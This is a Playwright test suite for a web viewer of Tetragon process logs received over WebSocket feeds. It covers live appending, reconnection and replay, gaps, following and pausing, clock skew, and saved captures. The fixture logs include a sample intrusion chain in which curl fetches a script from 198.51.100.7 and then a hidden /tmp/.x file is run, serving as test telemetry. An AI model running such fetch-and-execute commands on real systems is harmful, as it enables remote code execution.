import { appendFile, readFile } from 'node:fs/promises'
import { drawLog } from '../src/testing/draw-log'
import { isCi } from '../src/testing/is-ci'
import { expect, test, type Folder } from './helpers/test'
import type { Viewer } from './helpers/viewer'
import { HAS_WEBSOCKETD, WITHOUT_WEBSOCKETD, Websocketd } from './helpers/websocketd'

test.skip(!HAS_WEBSOCKETD && !isCi, WITHOUT_WEBSOCKETD)

const start = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 1s..2s exit 22
`)
const more = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..30s
      12 /bin/sh /tmp/.x 10s..20s
        13 /usr/bin/id 12s..13s
`)
/** The lines of `more` that are not in `start`. */
const appended = more.lines.filter((line) => !start.lines.includes(line))

let server: Websocketd | undefined
test.afterEach(async () => {
  await server?.stop()
  server = undefined
})

async function connect(viewer: Viewer, url: string): Promise<void> {
  await viewer.button('Connect').click()
  await viewer.page.getByRole('textbox', { name: /Address of a WebSocket/ }).fill(url)
  await viewer.page.getByRole('region', { name: 'Open a log' }).getByRole('button', { name: 'Connect' }).last().click()
}

/** Serves `start` as a feed and connects to it; gives the file that the server follows. */
async function watchStart(viewer: Viewer, folder: Folder): Promise<{ file: string; feed: Websocketd }> {
  const file = await folder.write('tetragon.log', start.text)
  const feed = await Websocketd.serve(file)
  server = feed
  await viewer.goto()
  await connect(viewer, feed.url)
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
  return { file, feed }
}

function feedState(viewer: Viewer) {
  return viewer.page
    .getByRole('banner')
    .getByRole('status')
    .filter({ hasText: /live|connect|closed/ })
}

test('events of a feed appear, and those that are written later appear by themselves', async ({ viewer, folder }) => {
  const { file } = await watchStart(viewer, folder)
  await expect(feedState(viewer)).toContainText('live')
  await expect(viewer.row('/bin/bash').getByRole('gridcell').last()).toHaveAccessibleName(/running/)
  await expect(viewer.page.getByRole('region', { name: 'Live feeds' })).toContainText(/n1 .* lag/)
  const before = await viewer.visibleRange()

  await appendFile(file, appended.map((line) => `${line}\n`).join(''))
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
  await expect(viewer.row('/usr/bin/id')).toHaveAttribute('aria-level', '4')
  await expect(viewer.row('/bin/bash').getByRole('gridcell').last()).toHaveAccessibleName('10:00:00.000, 30 s, exit 0')
  await expect(viewer.status).toContainText('4 processes')
  // the whole log stays in view as it grows
  expect((await viewer.visibleRange()).to).toBeGreaterThan(before.to)
})

test('a line that is written in two halves is one event', async ({ viewer, folder }) => {
  const { file } = await watchStart(viewer, folder)
  const [line, ...rest] = appended
  await appendFile(file, line.slice(0, 100))
  await appendFile(file, `${line.slice(100)}\n${rest.join('\n')}\n`)
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
  await expect(viewer.status).toContainText('nothing is known to be missing')
})

test('a selection and a range stay where they are while events come', async ({ viewer, folder, page }) => {
  const file = await folder.write('tetragon.log', start.text)
  server = await Websocketd.serve(file)
  await viewer.goto()
  await connect(viewer, server.url)
  await viewer.selectRow('/usr/bin/curl')
  await viewer.changeRange(() => page.keyboard.press('f'))
  const range = await viewer.visibleRange()
  await appendFile(file, appended.map((line) => `${line}\n`).join(''))
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
  expect(await viewer.visibleRange()).toEqual(range)
  await expect(viewer.row('/usr/bin/curl')).toHaveAttribute('aria-selected', 'true')
})

test('the raw JSON of an event of a feed is the line that was sent', async ({ viewer, folder, page }) => {
  server = await Websocketd.serve(await folder.write('tetragon.log', start.text))
  await viewer.goto()
  await connect(viewer, server.url)
  await viewer.selectRow('/usr/bin/curl')
  await page.getByRole('tab', { name: 'Raw JSON' }).click()
  await expect(page.getByRole('tabpanel')).toContainText('"process_exec"')
  const shown = (await page.getByRole('tabpanel').locator('pre').textContent()) ?? ''
  const line = start.lines.find((other) => other.includes('curl') && other.includes('process_exec'))!
  expect(JSON.parse(shown)).toEqual(JSON.parse(line))
})

test('a lost connection is said, is made again by itself, and what is sent again counts once', async ({
  viewer,
  folder,
}) => {
  const { file, feed } = await watchStart(viewer, folder)

  await feed.stop()
  await expect(feedState(viewer)).toContainText(/reconnecting, attempt \d+/)
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()

  await appendFile(file, appended.map((line) => `${line}\n`).join(''))
  await feed.start()
  await expect(feedState(viewer)).toContainText('live', { timeout: 20_000 })
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
  await expect(viewer.status).toContainText('4 processes')
  await expect(viewer.status).toContainText(`${start.lines.length + appended.length} events`)
  await viewer.status.getByRole('button', { name: /data quality/ }).click()
  await expect(viewer.page.getByRole('dialog')).toContainText(`${start.lines.length} duplicates`)
  // the replay came to the last line from before the loss, so nothing is missing
  await expect(viewer.page.getByRole('dialog')).not.toContainText('gap in a feed')
})

test('a server that does not replay leaves a gap, on the timeline and in the data quality', async ({
  viewer,
  folder,
}) => {
  const file = await folder.write('tetragon.log', '')
  server = await Websocketd.serve(file, '0')
  await viewer.goto()
  await connect(viewer, server.url)
  await expect(feedState(viewer)).toContainText('live')
  // again and again: the server is there before its tail is
  await expect(async () => {
    await appendFile(file, start.text)
    await expect(viewer.row('/usr/bin/curl')).toBeVisible({ timeout: 1000 })
  }).toPass()

  await server.stop()
  await expect(feedState(viewer)).toContainText(/reconnecting, attempt \d+/)
  await appendFile(
    file,
    appended
      .slice(0, -1)
      .map((line) => `${line}\n`)
      .join(''),
  ) // nobody hears of these
  await server.start()
  await expect(feedState(viewer)).toContainText('live', { timeout: 20_000 })
  await appendFile(file, `${appended.at(-1)}\n`)
  await expect(viewer.status.getByText('data missing')).toBeVisible()
  await viewer.status.getByRole('button', { name: /data quality/ }).click()
  await expect(viewer.page.getByRole('dialog')).toContainText('1 gap in a feed')
})

test('a feed is disconnected by its button, and what was received stays', async ({ viewer, folder }) => {
  const { file, feed } = await watchStart(viewer, folder)
  await viewer.button('Disconnect').click()
  await expect(feedState(viewer)).toContainText('closed')
  await appendFile(file, appended.map((line) => `${line}\n`).join(''))
  await feed.stop()
  await viewer.waitForIdle()
  await expect(feedState(viewer)).toContainText('closed')
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
  await expect(viewer.status).toContainText('2 processes')

  const download = viewer.page.waitForEvent('download')
  await viewer.button('Save capture').click()
  const saved = await download
  expect(saved.suggestedFilename()).toMatch(/^treeline-capture-127\.0\.0\.1-\d+-\d{8}T\d{6}Z\.ndjson$/)
  expect(await readFile(await saved.path(), 'utf8')).toBe(start.text)
})

test('a feed that was disconnected is connected to again by its button', async ({ viewer, folder }) => {
  const { file } = await watchStart(viewer, folder)
  await viewer.button('Disconnect').click()
  await appendFile(file, appended.map((line) => `${line}\n`).join(''))
  await viewer.button('Connect again').click()
  await expect(feedState(viewer).last()).toContainText('live')
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
  await expect(viewer.status).not.toContainText('data missing')
  await expect(viewer.button('Connect again')).toHaveCount(0)
})

test('a file can be opened beside a feed', async ({ viewer, folder }) => {
  await watchStart(viewer, folder)
  await viewer.dropFiles({ name: 'earlier.log', content: more.text })
  await expect(viewer.status).toContainText('4 processes')
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
  await expect(viewer.page.getByRole('banner')).toContainText('earlier.log')
})

test('a feed is added to a file that is open', async ({ viewer, folder, page }) => {
  server = await Websocketd.serve(await folder.write('tetragon.log', start.text))
  await viewer.goto()
  await viewer.dropFiles({ name: 'earlier.log', content: `${appended.join('\n')}\n` })
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
  await viewer.button('Connect to a feed').click()
  const dialog = page.getByRole('dialog', { name: 'Connect to a feed' })
  const address = dialog.getByRole('textbox', { name: /Address of a WebSocket/ })
  await expect(address).toBeFocused()
  await address.fill(server.url)
  await page.keyboard.press('Enter')
  await expect(dialog).toHaveCount(0)
  await expect(viewer.button('Connect to a feed')).toBeFocused()
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
  await expect(viewer.status).toContainText('4 processes')
  await expect(feedState(viewer)).toContainText('live')
  await page.keyboard.press('Shift+C')
  await dialog.getByRole('radio', { name: 'NATS JetStream' }).check()
  await expect(dialog.getByRole('textbox', { name: 'Server' })).toBeFocused()
  await page.keyboard.press('Escape')
  await expect(dialog).toHaveCount(0)
})

test('a feed that is not there is said, and the way back is open', async ({ viewer, folder }) => {
  server = await Websocketd.serve(await folder.write('tetragon.log', start.text))
  await server.stop()
  await viewer.goto()
  await connect(viewer, server.url)
  await expect(feedState(viewer)).toContainText('reconnecting')
  await expect(viewer.page.getByText('Waiting for the first event.')).toBeVisible()
  await expect(viewer.page.getByRole('list', { name: 'Feeds' })).toContainText(/reconnecting.* · no connection/)
  await expect(viewer.page.getByText('nothing comes while nothing runs')).toBeHidden()
  await viewer.button('Close log').click()
  await expect(viewer.button('Open the sample')).toBeVisible()
})

test('an address that is no WebSocket is refused with a sentence', async ({ viewer, page }) => {
  await viewer.goto()
  await connect(viewer, 'http://127.0.0.1:9106/')
  await expect(page.getByRole('alert')).toContainText('ws:// or wss://')
  await page.getByRole('textbox', { name: /Address of a WebSocket/ }).fill('ws://')
  await page.keyboard.press('Enter')
  await expect(page.getByRole('alert')).toContainText('ws:// or wss://')
  await expect(viewer.button('Open the sample')).toBeVisible()
})

test('following keeps now in view, a paused view stays while events come, and moving lets go', async ({
  viewer,
  folder,
  page,
}) => {
  const { file } = await watchStart(viewer, folder)
  const strip = page.getByRole('region', { name: 'Live feeds' })
  await page.keyboard.press('l')
  await expect(strip.getByRole('button', { name: 'Following' })).toHaveAttribute('aria-pressed', 'true')
  const before = await viewer.visibleRange()
  await appendFile(file, appended.map((line) => `${line}\n`).join(''))
  await expect.poll(async () => (await viewer.visibleRange()).to).toBeGreaterThan(before.to)
  await expect(page).toHaveURL(/follow=\d+/)

  await page.keyboard.press('Space')
  await expect(strip).toContainText('paused, 0 new events')
  const paused = await viewer.visibleRange()
  const late = drawLog('host n2\n  50 /usr/bin/late 40s..41s')
  await appendFile(file, late.text)
  await expect(strip).toContainText(`paused, ${late.lines.length} new events`)
  expect(await viewer.visibleRange()).toEqual(paused)
  await expect(viewer.row('/usr/bin/late')).toBeHidden()
  await page.keyboard.press('Space')
  await expect(viewer.row('/usr/bin/late')).toBeVisible()
  await expect.poll(async () => (await viewer.visibleRange()).to).toBeGreaterThan(paused.to)

  await viewer.changeRange(() => page.keyboard.press('a'))
  await expect(strip.getByRole('button', { name: 'Follow', exact: true })).toHaveAttribute('aria-pressed', 'false')
  await expect(page).not.toHaveURL(/follow=/)
})

test('a node whose clock is ahead is named so, and what is followed does not go there', async ({
  viewer,
  folder,
  page,
}) => {
  const [execBash, ...rest] = start.lines.map((line) =>
    line.replaceAll('2024-05-01T10:00:0', `${minuteOf(Date.now())}:0`),
  )
  const ahead = drawLog('host n9\n  90 /usr/bin/ahead 0s..').text.replaceAll(
    '2024-05-01T10:00:0',
    `${minuteOf(Date.now() + 3_600_000)}:0`,
  )
  const file = await folder.write('tetragon.log', `${execBash}\n${ahead}`)
  server = await Websocketd.serve(file)
  await viewer.goto()
  await connect(viewer, server.url)
  const strip = page.getByRole('region', { name: 'Live feeds' })
  await expect(strip).toContainText(/n9 .*clock ahead by (1h|59m|1h \d+m)/)
  await strip.getByRole('button', { name: 'Follow' }).click()
  await appendFile(file, rest.map((line) => `${line}\n`).join(''))
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
  expect((await viewer.visibleRange()).to).toBeLessThan(Date.now() + 60_000)

  // the keys are the view's after a click
  await page.keyboard.press('Space')
  await expect(strip).toContainText('paused')
  await expect(strip.getByRole('button', { name: 'Following' })).toBeVisible()
  await page.keyboard.press('Space')

  await viewer.button('Disconnect').click()
  await expect(strip.getByRole('button', { name: 'Follow' })).toBeDisabled()
  await expect(strip).not.toContainText('may still change')
})

/** A time as it begins in a log, up to its minute. */
function minuteOf(ms: number): string {
  return new Date(ms).toISOString().slice(0, 16)
}

test('rows on screen stay where they are when a feed brings others above them', async ({ viewer, folder, page }) => {
  const pods = (name: string, from: number, count: number): string =>
    Array.from(
      { length: count },
      (_, i) =>
        `pod ${name}/p${from + i} container c${from + i}${name} node n1\n  ${from + i} /bin/${name}${from + i} 0s..`,
    ).join('\n')
  const file = await folder.write('tetragon.log', drawLog(pods('m', 100, 60)).text)
  server = await Websocketd.serve(file)
  await viewer.goto()
  await connect(viewer, server.url)
  await expect(viewer.status).toContainText('60 processes')
  await page.getByRole('treegrid').hover()
  await page.mouse.wheel(0, 1200)
  await viewer.waitForIdle()
  const row = page
    .getByRole('row')
    .filter({ hasText: /\/bin\/m1[1-4]\d/ })
    .nth(4)
  const name = (await row.textContent()) ?? ''
  const there = await row.boundingBox()
  await appendFile(file, drawLog(pods('a', 200, 20)).text)
  await expect(viewer.status).toContainText('80 processes')
  await viewer.waitForIdle()
  const after = await page.getByRole('row').filter({ hasText: name }).first().boundingBox()
  expect(after?.y).toBe(there?.y)
})

test('what a feed brought is still there after the page was loaded again, until it is deleted', async ({
  viewer,
  folder,
  page,
}) => {
  const { feed } = await watchStart(viewer, folder)
  await feed.stop()
  await expect(page).toHaveURL(/feed=/)
  await page.reload()
  await page.getByRole('button', { name: 'Do not connect' }).click()
  const captures = page.getByRole('region', { name: 'Captures of feeds' })
  await expect(captures).toContainText(feed.url)
  await captures.getByRole('button', { name: 'Open it' }).click()
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
  await expect(viewer.status).toContainText(`${start.lines.length} events`)

  await viewer.button('Close log').click()
  await captures.getByRole('button', { name: 'Delete' }).click()
  await expect(captures).toBeHidden()
  await page.reload()
  await expect(viewer.button('Open the sample')).toBeVisible()
  await expect(captures).toBeHidden()
})

test('a feed that is closed leaves nothing on disk', async ({ viewer, folder, page }) => {
  await watchStart(viewer, folder)
  await viewer.button('Close log').click()
  const left = (): Promise<number> =>
    page.evaluate(async () => {
      const root = await navigator.storage.getDirectory()
      const captures = await root.getDirectoryHandle('captures', { create: true })
      let count = 0
      for await (const _ of captures.keys()) count++
      return count
    })
  await expect.poll(left).toBe(0)
})
